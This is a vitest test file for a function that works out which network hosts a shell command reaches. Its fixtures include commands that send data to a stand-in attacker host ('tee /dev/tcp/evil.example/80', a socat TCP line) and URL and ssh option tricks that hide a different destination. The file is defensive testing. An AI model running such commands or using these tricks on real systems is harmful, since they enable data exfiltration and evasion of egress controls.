import { expect, test } from 'vitest';
import { hostsOfCommand } from './hosts-of-command.js';

test.each([
  ['curl example.com', ['example.com'], false],
  ['curl -sSLo out.bin -H x EXAMPLE.com:8080/a', ['example.com'], false],
  ['curl --data body https://a.example/x', ['a.example'], false],
  ['curl -x proxy.example:3128 http://2130706433/', ['127.0.0.1', 'proxy.example'], false],
  ['curl --resolve a.example:443:10.0.0.1 https://a.example', ['10.0.0.1', 'a.example'], false],
  ['curl user:pw@example.com.', ['example.com'], false],
  ['curl http://[::1]:80/', ['::1'], false],
  ['wget -O - example.com/x', ['example.com'], false],
  ['/usr/bin/wget example.com', ['example.com'], false],
  ['ssh -p 22 -i key root@host.example uptime', ['host.example'], false],
  ['ssh -J jump.example inner.example', ['jump.example', 'inner.example'], false],
  ['scp a.txt host.example:/tmp', ['host.example'], false],
  ['scp a.txt b.txt', [], false],
  ['rsync -a x [::1]:y', ['::1'], false],
  ['nc example.com 80', ['example.com'], false],
  ['nc -l 8080', [], true],
  ['ping -c 3 example.com', ['example.com'], false],
  ['git clone host.example:path', ['host.example'], false],
  ['git clone git@host.example:path', ['host.example'], false],
  ['git push', [], true],
  ['git push origin main', [], true],
  ['git status', [], false],
  ['git log --format=a:b', [], false],
  ['npm install', [], true],
  ['npm install --registry=https://r.example', ['r.example'], false],
  ['npm install --registry r.example', ['r.example'], false],
  ['npm test', [], false],
  ['openssl s_client -connect h.example:443', ['h.example', 's_client'], false],
  ['tee /dev/tcp/evil.example/80', ['evil.example'], false],
  ['socat - TCP:evil.example:80', ['evil.example'], false],
  ['psql -h db.example -c x', ['db.example'], false],
  ['mysql -hdb.example shop', ['db.example'], false],
  ['pg_dump -Fc shop', [], false],
  ['ls -h example.com', [], false],
  ['ls example.com', [], false],
] as const)('P-02 %s reaches %j', (command, hosts, isOpen) => {
  const found = hostsOfCommand(command.split(' '));
  expect([...found.hosts].sort()).toEqual([...hosts].sort());
  expect(found.isOpen).toBe(isOpen);
});

test('P-02 a word that is not known, and a part that cannot be read, may be any host', () => {
  expect(hostsOfCommand(['curl', undefined])).toMatchObject({ isOpen: true });
  expect(hostsOfCommand('unreadable')).toMatchObject({ isOpen: true });
});

test.each([
  ['curl', 'http://good.example\\@evil.example/'],
  ['curl', 'http://good.example\t@evil.example/'],
  ['curl', "http://good.example'@evil.example/"],
  ['curl', '--url=http://good.example\\@evil.example/'],
  ['curl', '--connect-to=::evil.example:', 'http://good.example'],
  ['wget', 'http://good.example\\@evil.example/'],
])('P-02 %j %j reaches a host that only its program reads there', (...part) => {
  expect(hostsOfCommand(part).hosts).toContain('evil.example');
});

test.each([
  ['curl', 'http://{evil.example,good.example}/'],
  ['curl', '{evil.example,good.example}'],
  ['curl', '-xevil.example', 'http://good.example'],
  ['curl', '-K', 'settings', 'http://good.example'],
  ['curl', '-sKsettings', 'http://good.example'],
  ['curl', '--config=settings', 'http://good.example'],
  ['curl', '--unix-socket', '/s', 'http://good.example'],
  ['wget', '-i', 'list', 'http://good.example'],
  ['wget', '-e', 'http_proxy=evil.example', 'http://good.example'],
  ['ssh', '-o', 'ProxyJump=evil', 'good.example'],
  ['ssh', '-oHostName=evil', 'good.example'],
  ['ssh', '-F', 'settings', 'good.example'],
  ['ssh', '-Jevil', 'good.example'],
  ['git', '-c', 'http.proxy=evil.example', 'clone', 'http://good.example/x'],
])('P-02 %j %j may reach other hosts than those it names', (...part) => {
  expect(hostsOfCommand(part).isOpen).toBe(true);
});

test.each([
  ['curl', '-sS', 'http://good.example/{a,b}'],
  ['curl', '-d', '{"a":1}', 'http://good.example'],
  ['curl', 'http://[::1]/'],
  ['ssh', '-p', '22', '-o', 'BatchMode=yes', 'good.example'],
  ['wget', '-q', 'http://good.example'],
  ['git', 'clone', 'http://good.example/x'],
])('P-02 %j %j reaches what it names', (...part) => {
  expect(hostsOfCommand(part).isOpen).toBe(false);
});
